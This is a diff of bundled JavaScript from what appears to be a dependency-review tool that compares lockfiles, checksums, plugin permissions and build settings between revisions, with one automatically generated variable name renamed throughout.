   if (is !== was) return is < was ? "unknown" : "less";
-  const [known7, named10] = [old.get(STRENGTH[is] ?? ""), now.get(STRENGTH[is] ?? "")];
-  return known7 !== void 0 && named10?.isSubsetOf(known7) === true ? "as much" : "less";
+  const [known8, named10] = [old.get(STRENGTH[is] ?? ""), now.get(STRENGTH[is] ?? "")];
+  return known8 !== void 0 && named10?.isSubsetOf(known8) === true ? "as much" : "less";
 }
 var OF_ARCHIVE = "archive";
 function kindOf5(text3) {
@@ -39975,15 +39992,15 @@ function strongest(hashes) {
 
 // src/compare/packages/offers.ts
 function offersIn(grants) {
-  const known7 = grants.filter((grant) => grant.kind === "plugin-permissions");
-  return new Map(known7.map((each) => [each.crate, each]));
+  const known8 = grants.filter((grant) => grant.kind === "plugin-permissions");
+  return new Map(known8.map((each) => [each.crate, each]));
 }
 function offerOf({ name }, before2, after2) {
   const crate2 = PLUGIN_HALVES.find(({ npm }) => npm === name)?.crate ?? name;
   const found9 = after2.get(crate2);
   if (found9 === void 0) return null;
-  const known7 = new Set((before2.get(crate2)?.granted ?? []).map((each) => JSON.stringify(each)));
-  const granted = found9.granted.filter((each) => !known7.has(JSON.stringify(each)));
+  const known8 = new Set((before2.get(crate2)?.granted ?? []).map((each) => JSON.stringify(each)));
+  const granted = found9.granted.filter((each) => !known8.has(JSON.stringify(each)));
   return { byDefault: found9.byDefault, granted, wasGranted: granted.length < found9.granted.length };
 }
 
@@ -39993,8 +40010,8 @@ function nearestOf(before2) {
   const newest = /* @__PURE__ */ new Map();
   for (const each of before2) {
     for (const key3 of ["", lineOf6(each)]) {
-      const known7 = newest.get(key3);
-      if (known7 === void 0 || isNewer2(each, known7)) newest.set(key3, each);
+      const known8 = newest.get(key3);
+      if (known8 === void 0 || isNewer2(each, known8)) newest.set(key3, each);
     }
   }
   return (each) => newest.get(lineOf6(each)) ?? newest.get("");
@@ -40179,8 +40196,8 @@ function repositoryOwner(source) {
 
 // src/compare/packages/build-settings.ts
 function newBuildSettings(before2, after2) {
-  const known7 = new Set(before2.buildSettings.map(meaningOf2));
-  const added = after2.buildSettings.filter((each) => !known7.has(meaningOf2(each)));
+  const known8 = new Set(before2.buildSettings.map(meaningOf2));
+  const added = after2.buildSettings.filter((each) => !known8.has(meaningOf2(each)));
   return [...new Map(added.toReversed().map((each) => [meaningOf2(each), each])).values()].reverse();
 }
 function toldBy(settings3) {
@@ -40226,13 +40243,13 @@ function changeOf4(setting12, group2, { settings: settings3, owners }) {
   };
 }
 function newLineOf({ lines: lines2 = [], at: at2 }, old) {
-  const known7 = new Set(old?.lines?.map(({ written: written6 }) => written6));
-  return lines2.find(({ written: written6 }) => !known7.has(written6))?.at ?? at2;
+  const known8 = new Set(old?.lines?.map(({ written: written6 }) => written6));
+  return lines2.find(({ written: written6 }) => !known8.has(written6))?.at ?? at2;
 }
-function ownerOf2({ source, of: of2 }, known7) {
+function ownerOf2({ source, of: of2 }, known8) {
   if (source?.kind === "path") return "repository";
   const owner = source === void 0 || of2 === null ? null : repositoryOwner(source);
-  return owner !== null && known7.has(owner) ? "known" : "stranger";
+  return owner !== null && known8.has(owner) ? "known" : "stranger";
 }
 function witnessFor({ name, of: of2, value, source, written: written6 }, text3) {
   const common2 = { platform: "any", text: text3 };
@@ -40259,10 +40276,10 @@ function broughtBy(each, before2, after2) {
   return null;
 }
 function movesOf(asking, before2, after2) {
-  const known7 = before2.named(asking);
-  if (known7.packages.length === 0) return [];
+  const known8 = before2.named(asking);
+  if (known8.packages.length === 0) return [];
   const fetched = after2.named(asking).packages.filter(({ source }) => source.kind !== "path");
-  return fetched.map((it2) => moveBetween(known7.nearest(it2), it2));
+  return fetched.map((it2) => moveBetween(known8.nearest(it2), it2));
 }
 
 // src/compare/packages/checksums.ts
@@ -40275,9 +40292,9 @@ function otherHashes(before2, after2) {
   );
 }
 function pinned(before2, after2, wanted) {
-  const known7 = Map.groupBy(before2.packages, bytesOf2);
+  const known8 = Map.groupBy(before2.packages, bytesOf2);
   const changed = after2.packages.filter((each) => {
-    const twins = twinsOf(each, known7.get(bytesOf2(each)) ?? []);
+    const twins = twinsOf(each, known8.get(bytesOf2(each)) ?? []);
     const pinnings = new Set(twins.map((twin) => pinningOf(twin.checksum, each.checksum)));
     if (twins.length === 0 || pinnings.has("as much")) return false;
     return pinnings.has("unknown") ? wanted === "unknown" : wanted === "less";
@@ -40660,8 +40677,8 @@ function newlyCounting(before2, after2) {
   const gaps = after2.policies.flatMap(({ folder, lock }) => {
     const old = before2.policies.find((each) => each.folder === folder);
     if (lock === null || old === void 0 || counted2.has(lock) || !there.has(lock)) return [];
-    const known7 = new Set(before2.packages.filter(({ at: at2 }) => at2.path === old.lock).map(releaseOf2));
-    const added = after2.packages.filter((each) => each.at.path === lock && !known7.has(releaseOf2(each)));
+    const known8 = new Set(before2.packages.filter(({ at: at2 }) => at2.path === old.lock).map(releaseOf2));
+    const added = after2.packages.filter((each) => each.at.path === lock && !known8.has(releaseOf2(each)));
     return gapOf2(lock, old.lock, added);
   });
   return [...new Map([...gaps, ...takenUp(before2, after2)].map((gap3) => [gap3.rests, gap3])).values()];
@@ -40670,15 +40687,15 @@ function takenUp(before2, after2) {
   return after2.policies.flatMap((policy) => {
     const { folder } = policy;
     const old = before2.policies.find((each) => each.folder === folder);
-    const [known7, managers] = [old === void 0 ? [] : namedInstallers(old), namedInstallers(policy)];
-    if (known7.length === 0) return [];
+    const [known8, managers] = [old === void 0 ? [] : namedInstallers(old), namedInstallers(policy)];
+    if (known8.length === 0) return [];
     const isOf2 = (installers, each) => each.ecosystem === "npm" && folderOf5(each.at.path) === folder && installers.includes(each.manager);
-    const taken3 = new Set(before2.packages.filter((each) => isOf2(known7, each)).map(releaseOf2));
+    const taken3 = new Set(before2.packages.filter((each) => isOf2(known8, each)).map(releaseOf2));
     const there = new Set(before2.packages.map(({ at: at2 }) => at2.path));
     const added = after2.packages.filter(
       (each) => isOf2(managers, each) && there.has(each.at.path) && !taken3.has(releaseOf2(each))
     );
-    const isNew2 = ({ manager }) => !known7.some((each) => each === manager);
+    const isNew2 = ({ manager }) => !known8.some((each) => each === manager);
     return [...Map.groupBy(added.filter(isNew2), ({ at: at2 }) => at2.path)].flatMap(
       ([lock, all]) => gapOf2(lock, null, all)
     );
@@ -40778,9 +40795,9 @@ function unlockedInstallers(base, head) {
     const { folder, path, isProject: isOne } = policy;
     const old = base.policies.find((each) => each.folder === folder);
     if (old === void 0 || !isOne) return [];
-    const [known7, locked] = [installersBefore(old, base), lockedFor(folder, head)];
-    if (known7.length === 0 || locked.length === 0) return [];
-    const added = policy.managers.filter((each) => !known7.includes(each) && !locked.includes(each));
+    const [known8, locked] = [installersBefore(old, base), lockedFor(folder, head)];
+    if (known8.length === 0 || locked.length === 0) return [];
+    const added = policy.managers.filter((each) => !known8.includes(each) && !locked.includes(each));
     return added.filter((each) => each !== "bun").map((each) => unlocked(each, folder, path));
   });
 }
@@ -40826,11 +40843,11 @@ function packageGaps(base, head) {
   ];
 }
 function changedUnread(base, head) {
-  const known7 = new Map(base.unread.map((lockfile) => [lockfile.path, lockfile.id]));
+  const known8 = new Map(base.unread.map((lockfile) => [lockfile.path, lockfile.id]));
   const still = new Set(head.unread.map(({ path }) => path));
   const gone = new Set(base.unread.filter(({ path }) => !still.has(path)).map(({ id }) => id));
-  return head.unread.filter(({ path, id }) => known7.get(path) !== id && (known7.has(path) || !gone.has(id))).map(({ path, id }) => {
-    const verb = known7.has(path) ? "changed" : "is new";
+  return head.unread.filter(({ path, id }) => known8.get(path) !== id && (known8.has(path) || !gone.has(id))).map(({ path, id }) => {
+    const verb = known8.has(path) ? "changed" : "is new";
     const message = `${code(path)} ${verb}, and this kind of lockfile isn't read yet: compare it by hand.`;
     return gapIn(path, { kind: "unsupported", rests: wordsOf("lockfile", id), message });
   });
@@ -40964,19 +40981,19 @@ function apartIn(side, names3) {
   return areApart ? { crate: crate2, npm } : null;
 }
 function withMoved({ crate: crate2, npm }, names3, before2) {
-  const known7 = { cargo: before2.crates(names3.crate), npm: before2.asked(names3.npm) };
-  const hasMoved = (each) => !known7[each.ecosystem].some(({ version }) => version === each.version);
+  const known8 = { cargo: before2.crates(names3.crate), npm: before2.asked(names3.npm) };
+  const hasMoved = (each) => !known8[each.ecosystem].some(({ version }) => version === each.version);
   const moved = npm.find(hasMoved) ?? (hasMoved(crate2) ? crate2 : npm[0]) ?? crate2;
   const other = moved.ecosystem === "npm" ? moved : npm[0] ?? moved;
   return {
     crate: { name: names3.crate, version: crate2.version },
     npm: { name: names3.npm, version: other.version },
     moved: moved.ecosystem,
-    at: placeOf8(moved, known7[moved.ecosystem])
+    at: placeOf8(moved, known8[moved.ecosystem])
   };
 }
-function placeOf8(moved, known7) {
-  return known7.length === 0 ? moved.at : moved.lines.version;
+function placeOf8(moved, known8) {
+  return known8.length === 0 ? moved.at : moved.lines.version;
 }
 var COMPARING = "2.8.0";
 function comparesHalves(side) {
@@ -41048,9 +41065,9 @@ function installDifference(before2, after2) {
   for (const policy of after2.policies) {
     const old = counterpartOf(policy, before2, after2);
     const installers = everInstallersIn(old, policy, before2, after2);
-    const known7 = Map.groupBy(old?.settings ?? [], ({ name }) => name);
+    const known8 = Map.groupBy(old?.settings ?? [], ({ name }) => name);
     for (const setting12 of newSettings(old, policy, installers)) {
-      const change = changeFor(setting12, known7.get(setting12.name) ?? [], policy);
+      const change = changeFor(setting12, known8.get(setting12.name) ?? [], policy);
       if (change === void 0) gaps.push(unknownSetting(setting12));
       else if (!changes.has(change.identity)) changes.set(change.identity, change);
     }
@@ -41179,8 +41196,8 @@ function inWords3({ written: written6, from }) {
 
 // src/compare/packages/lone-halves.ts
 function newlyAlone(base, head) {
-  const known7 = new Set(alone(halvesIn(base)).map(keyOf8));
-  const added = alone(halvesIn(head)).filter((each) => !known7.has(keyOf8(each)));
+  const known8 = new Set(alone(halvesIn(base)).map(keyOf8));
+  const added = alone(halvesIn(head)).filter((each) => !known8.has(keyOf8(each)));
   const groups3 = Map.groupBy(added, ({ ecosystem, at: at2 }) => JSON.stringify([ecosystem, at2.path]));
   return [...groups3.values()].flatMap(changeOf6);
 }
@@ -41354,13 +41371,13 @@ function gapOf4(files) {
 function newlyUnpinned(base, head) {
   const pinned2 = new Set(base.flatMap((grant) => grant.kind === "package" ? [packageKey(grant)] : []));
   const before2 = unpinnedIn(base);
-  const known7 = new Set(before2.map(unpinnedKey));
+  const known8 = new Set(before2.map(unpinnedKey));
   const hadAny = new Set([...pinned2].map((key3) => key3.split(" ", 1)[0]));
   for (const { ecosystem } of before2) hadAny.add(ecosystem);
   const locked = /* @__PURE__ */ new Set([...changedLocks(base, head), ...changedLocks(head, base)]);
   const isTold = ({ ecosystem, at: at2 }) => ecosystem === "npm" && withAncestors2(folderOf5(at2.path)).some((folder) => locked.has(folder));
   const isNew2 = (each) => {
-    if (known7.has(unpinnedKey(each))) return false;
+    if (known8.has(unpinnedKey(each))) return false;
     if (each.lock !== null) return true;
     return hadAny.has(each.ecosystem) && !pinned2.has(packageKey(each)) && !isTold(each);
   };
@@ -41830,8 +41847,8 @@ function jsCode(path, text3) {
     else if (/^\.{0,2}\/|^\.{1,2}$/.test(name) && !name.endsWith(".node"))
       asked3.push({ name, offset: token2.start });
     else {
-      const known7 = classOfModule(name);
-      if (known7 !== void 0) evidence2.push({ class: known7, path, offset: token2.start });
+      const known8 = classOfModule(name);
+      if (known8 !== void 0) evidence2.push({ class: known8, path, offset: token2.start });
     }
   }
   return { evidence: evidence2, asked: asked3 };
@@ -42673,14 +42690,14 @@ function heldBefore({ isUnchanged }, { grants }) {
 function mendedOf({ files, location }, unread4, after2) {
   return mended(unread4.difference(unreadFiles(after2)), files, location);
 }
-function readableBuilds(app, known7) {
-  const builds2 = app.builds.map((build) => readBuild(build, known7));
+function readableBuilds(app, known8) {
+  const builds2 = app.builds.map((build) => readBuild(build, known8));
   const before2 = distinct5([...app.unread.base, ...builds2.flatMap(({ base }) => base?.gaps ?? [])]);
   const after2 = distinct5([...app.unread.head, ...builds2.flatMap(({ head }) => head.gaps)]);
   const [unread4, unreadOfHead] = [unreadFiles(before2), unreadFiles(after2)];
   if (unread4.size === 0 && unreadOfHead.size === 0) return { builds: builds2, before: before2, after: after2, unread: unread4 };
   const readable2 = app.of(withStandIns(app.files, unread4, unreadOfHead));
-  return { builds: readable2.map((build) => readBuild(build, known7)), before: before2, after: after2, unread: unread4 };
+  return { builds: readable2.map((build) => readBuild(build, known8)), before: before2, after: after2, unread: unread4 };
 }
 function knownOf(app, facts) {
   return { facts, interfaces: interfacesIn(needsOf2(app), facts) };
@@ -42798,10 +42815,10 @@ async function reviewTrees({
   const apps = files.touched.flatMap((pair) => appUnderReview(pair, files.base, files.head, sides) ?? []);
   const needs = apps.flatMap(needsOf2);
   if (needs.length > 0) progress(`Looking up ${needs.length} packages`);
-  const known7 = await facts.fetch(needs);
+  const known8 = await facts.fetch(needs);
   progress("Comparing");
   const attributes2 = attributeGaps(files.base.files, files.head.files, work);
-  const ofApps = withoutRepetition3(apps.map((app) => ({ app, reviewed: reviewApp(app, known7, work) })));
+  const ofApps = withoutRepetition3(apps.map((app) => ({ app, reviewed: reviewApp(app, known8, work) })));
   const judged = [...ofApps, await reviewRepository(repositoryReaders, sides, paths3, work)];
   const found9 = once(judged.flatMap((each) => each.findings)).sort(comparePlaces);
   const { findings, turnedOff } = applyPolicy(found9, policy, owner);
@@ -42836,7 +42853,7 @@ async function reviewTrees({
     turnedOff,
     narrowings: once(judged.flatMap((each) => each.narrowings)).sort(comparePlaces),
     gaps,
-    facts: known7.used()
+    facts: known8.used()
   };
 }
 function locationsIn(pairs) {
@@ -42910,7 +42927,7 @@ var BY_CLASS = {
 };
 var KNOWN_CRATES = new Map(
   Object.entries(BY_CLASS).flatMap(
-    ([known7, names3]) => names3.trim().split(/\s+/).map((name) => [name, known7])
+    ([known8, names3]) => names3.trim().split(/\s+/).map((name) => [name, known8])
   )
 );
 
@@ -42923,9 +42940,9 @@ function callable(manifest2, table2) {
     const own = member(each, table2) ?? member(each, table2.replace("-", "_"));
     if (own?.kind !== "object") continue;
     for (const [name, { value }] of own.entries) {
-      const known7 = classOf2(name, value);
+      const known8 = classOf2(name, value);
       const before2 = found9.get(inCode2(name));
-      found9.set(inCode2(name), before2 === void 0 || before2 === known7 ? known7 : "unknown");
+      found9.set(inCode2(name), before2 === void 0 || before2 === known8 ? known8 : "unknown");
     }
   }
   return found9;
@@ -43313,9 +43330,9 @@ function bindingsOf(files) {
   };
 }
 function add3(into, name, code2) {
-  const known7 = into.get(name);
-  if (known7 === void 0) into.set(name, [code2]);
-  else known7.push(code2);
+  const known8 = into.get(name);
+  if (known8 === void 0) into.set(name, [code2]);
+  else known8.push(code2);
 }
 function nearby2(bindings) {
   return {
@@ -43344,9 +43361,9 @@ function callsIn2(files) {
       if (token2.kind !== "word" || !names3.has(token2.text) || isKeyword(tokens[at2 - 1], "fn")) continue;
       if (isOpen(tokens[at2 + 1], "(")) {
         const given2 = argumentsAt(file2.source, at2 + 1).map((stretch) => ({ file: file2, stretch }));
-        const known7 = of2.get(token2.text);
-        if (known7 === void 0) of2.set(token2.text, [given2]);
-        else known7.push(given2);
+        const known8 = of2.get(token2.text);
+        if (known8 === void 0) of2.set(token2.text, [given2]);
+        else known8.push(given2);
       } else if (isMentioned(tokens, at2)) handedOn3.add(token2.text);
     }
   }
@@ -44353,10 +44370,10 @@ function jsonCache(directory, format) {
   };
 }
 async function cachedAnswers(items, cache, keyOf10) {
-  const known7 = await concurrently(items, 64, (item) => cache.get(keyOf10(item)));
+  const known8 = await concurrently(items, 64, (item) => cache.get(keyOf10(item)));
   return new Map(
     items.flatMap((item, at2) => {
-      const value = known7[at2];
+      const value = known8[at2];
       return value === void 0 ? [] : [[item, value]];
     })
   );
